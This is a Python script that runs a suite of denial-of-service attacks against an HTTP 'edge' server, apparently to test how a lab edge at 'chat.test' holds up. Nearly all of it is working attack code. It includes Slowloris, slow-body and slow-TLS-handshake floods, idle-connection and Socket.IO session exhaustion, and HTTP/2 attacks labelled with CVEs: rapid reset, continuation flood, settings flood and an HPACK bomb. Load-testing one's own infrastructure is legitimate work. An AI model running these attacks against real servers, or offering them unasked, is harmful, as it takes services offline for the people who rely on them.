#!/usr/bin/env python3
"""Attacks on an edge, with Python's standard library: attack.py ADDRESS ATTACK NUMBER SECONDS → a JSON object.

NUMBER is how many connections or sessions, SECONDS is how long an attack lasts that has no end of its own.

`held`      connections that the edge took
`refused`   connections that it closed or reset at once
`ended`     seconds until it had answered or closed each that was held, null where it had not within 15 seconds
`answers`   status of an answer (or `closed`) → how often
"""

from __future__ import annotations

import asyncio
import collections
import contextlib
import functools
import json
import select
import socket
import ssl
import sys
import threading
import time
from collections.abc import Callable

HOST = "chat.test"
PATIENCE = 15

Opened = tuple[asyncio.StreamReader, asyncio.StreamWriter]


def context() -> ssl.SSLContext:
    """TLS that trusts anybody: the edge is the victim here."""
    made = ssl.create_default_context()
    made.check_hostname = False
    made.verify_mode = ssl.CERT_NONE
    return made


async def connect(address: str, secure: bool = True) -> Opened | None:
    """A connection, or None where it was refused."""
    extra = {"ssl": context(), "server_hostname": HOST} if secure else {}
    try:
        return await asyncio.wait_for(asyncio.open_connection(address, 443, **extra), 30)
    except (OSError, asyncio.TimeoutError, ssl.SSLError):
        return None


async def ending(opened: Opened) -> str:
    """The status of the edge's answer, or `closed`."""
    with contextlib.suppress(OSError, ssl.SSLError):
        if (data := await opened[0].read(4096)).startswith(b"HTTP/1"):
            return data[9:12].decode()
    with contextlib.suppress(OSError, ssl.SSLError):
        opened[1].close()
    return "closed"


async def hold(address: str, number: int, first: bytes, more: bytes, secure: bool = True) -> dict:
    """Open many connections, send `first` on each, then `more` each second, and see how long the edge has patience."""
    gate = asyncio.Semaphore(20)  # all at once, they would keep each other from ending their handshakes

    async def one() -> tuple[str, float] | None:
        async with gate:
            opened = await connect(address, secure)
        if not opened:
            return None
        began = time.monotonic()

        async def drip() -> None:
            with contextlib.suppress(OSError, ssl.SSLError):
                opened[1].write(first)
                while more:
                    await asyncio.sleep(1)
                    opened[1].write(more)

        drips = asyncio.create_task(drip())
        try:
            return await asyncio.wait_for(ending(opened), PATIENCE), time.monotonic() - began
        except asyncio.TimeoutError:
            return "", PATIENCE
        finally:
            drips.cancel()

    held = [result for result in await asyncio.gather(*(one() for _ in range(number))) if result]
    answers = collections.Counter(answer for answer, _seconds in held if answer)
    longest = max((seconds for _answer, seconds in held), default=0)
    return {
        "held": len(held),
        "refused": number - len(held),
        "ended": round(longest, 1) if answers.total() == len(held) else None,
        "answers": answers,
    }


def slow_headers(address: str, number: int) -> dict:
    """A header a second, without end (Slowloris)."""
    return asyncio.run(hold(address, number, f"GET / HTTP/1.1\r\nHost: {HOST}\r\n".encode(), b"X-More: a\r\n"))


def slow_bodies(address: str, number: int) -> dict:
    """A byte of the body a second (R.U.D.Y.)."""
    head = f"POST / HTTP/1.1\r\nHost: {HOST}\r\nContent-Length: 10000\r\n\r\n"
    return asyncio.run(hold(address, number, head.encode(), b"a"))


def slow_handshakes(address: str, number: int) -> dict:
    """The head of a TLS record, and no more."""
    return asyncio.run(hold(address, number, b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03", b"", secure=False))


def idle_connections(address: str, number: int) -> dict:
    """Connections that never say a word, many from one address."""
    sockets = []
    for _ in range(number):
        connection = socket.socket()
        connection.setblocking(False)
        with contextlib.suppress(BlockingIOError):
            connection.connect((address, 443))
        sockets.append(connection)
        time.sleep(0.0002)

    def alive() -> int:
        count = 0
        for connection in sockets:
            try:
                count += connection.recv(1) != b""
            except BlockingIOError:
                count += 1
            except OSError:
                pass
        return count

    time.sleep(2)
    held = alive()
    began = time.monotonic()
    while alive() and time.monotonic() - began < PATIENCE:
        time.sleep(0.5)
    ended = None if alive() else round(time.monotonic() - began + 2, 1)
    return {"held": held, "refused": number - held, "ended": ended, "answers": {}}


def sessions(address: str, number: int) -> dict:
    """New Socket.IO sessions, as many as go, over a few connections."""
    request = f"GET /socket.io/?EIO=4&transport=polling HTTP/1.1\r\nHost: {HOST}\r\n\r\n".encode()
    answers: collections.Counter = collections.Counter()

    async def flood(times: int) -> None:
        opened = await connect(address)
        for _ in range(times):
            if not opened:
                answers["closed"] += 1
                return
            reader, writer = opened
            try:
                writer.write(request)
                head = (await reader.readuntil(b"\r\n\r\n")).decode().lower()
                length = head.partition("content-length:")[2].split()
                await reader.readexactly(int(length[0]) if length else 0)
            except (OSError, EOFError, ssl.SSLError):
                answers["closed"] += 1
                opened = await connect(address)
                continue
            status = head[9:12]
            answers[status + (" retry-after" if "\nretry-after:" in head else "")] += 1
            if "connection: close" in head:
                writer.close()
                opened = await connect(address)

    async def run() -> None:
        await asyncio.gather(*(flood(number // 20) for _ in range(20)))

    asyncio.run(run())
    return {"held": 0, "refused": 0, "ended": None, "answers": answers}


# --- HTTP/2: each of some connections sends such frames as fast as it goes, and comes again when it is closed


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """A frame of HTTP/2 (RFC 9113, 4.1)."""
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def text(value: str) -> bytes:
    """A string of HPACK without Huffman coding (RFC 7541, 5.2), of up to 4,000 characters."""
    size = len(value)
    if size < 127:
        return bytes([size]) + value.encode()
    return bytes([127, (size - 127) & 127 | 128, (size - 127) >> 7]) + value.encode()


# GET https://HOST/: three fields of the static table, the name of the host spelled out.
HEAD = b"\x82\x87\x84\x01" + text(HOST)
# A field of 3,900 characters for the table of HPACK, then 15,000 times the byte that stands for it.
BOMB = HEAD + b"\x40" + text("x-bomb") + text("a" * 3900) + b"\xbe" * 12000

FRAMES = {
    # CVE-2023-44487: each request is taken back at once.
    "rapid_reset": lambda stream: frame(1, 5, stream, HEAD) + frame(3, 0, stream, (8).to_bytes(4, "big")),
    # CVE-2025-8671: a wrong frame makes the edge take it back.
    "made_you_reset": lambda stream: frame(1, 5, stream, HEAD) + frame(8, 0, stream, bytes(4)),
    # CVE-2024-27316 and its like: a head that never ends.
    "continuation_flood": lambda stream: (
        frame(1, 1, 1, HEAD) if stream == 1 else frame(9, 0, 1, b"\x00" + text(f"x-{stream}") + text("a" * 100))
    ),
    # CVE-2019-9515: each wants to be acknowledged.
    "settings_flood": lambda stream: frame(4, 0, 0, b"\x00\x04\x00\x00\xff\xff"),
    # CVE-2016-6581: 16 kB that mean 47 MB.
    "hpack_bomb": lambda stream: frame(1, 5, stream, BOMB),
}


def http2(address: str, number: int, make: Callable[[int], bytes]) -> dict:
    """Attack by `number` connections; `held` and `refused` count connections, `answers` how often they were closed."""
    found: collections.Counter = collections.Counter()
    end = time.monotonic() + float(sys.argv[4])

    def once() -> None:
        secure = context()
        secure.set_alpn_protocols(["h2"])
        with secure.wrap_socket(socket.create_connection((address, 443), 10), server_hostname=HOST) as connection:
            found["held"] += 1
            connection.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0))
            connection.setblocking(False)
            stream = 1
            while time.monotonic() < end:
                data = b"".join(make(number) for number in range(stream, stream + 100, 2))
                stream += 100
                while data and time.monotonic() < end:
                    with contextlib.suppress(ssl.SSLWantReadError):
                        while connection.recv(65536):
                            pass
                        raise ConnectionError  # it has ended
                    try:
                        data = data[connection.send(data) :]
                    except ssl.SSLWantWriteError:
                        select.select([connection], [connection], [], 0.1)

    def come_again() -> None:
        while time.monotonic() < end:
            try:
                once()
            except (OSError, ssl.SSLError):
                found["closed"] += 1

    threads = [threading.Thread(target=come_again) for _ in range(number)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    refused = found["closed"] - found["held"]
    return {
        "held": found["held"],
        "refused": max(0, refused),
        "ended": None,
        "answers": {"closed": found["closed"]},
    }


ATTACKS = {
    **{name: functools.partial(http2, make=make) for name, make in FRAMES.items()},
    "slow_headers": slow_headers,
    "slow_bodies": slow_bodies,
    "slow_handshakes": slow_handshakes,
    "idle_connections": idle_connections,
    "sessions": sessions,
}

if __name__ == "__main__":
    import resource

    resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
    print(json.dumps(ATTACKS[sys.argv[2]](sys.argv[1], int(sys.argv[3]))))
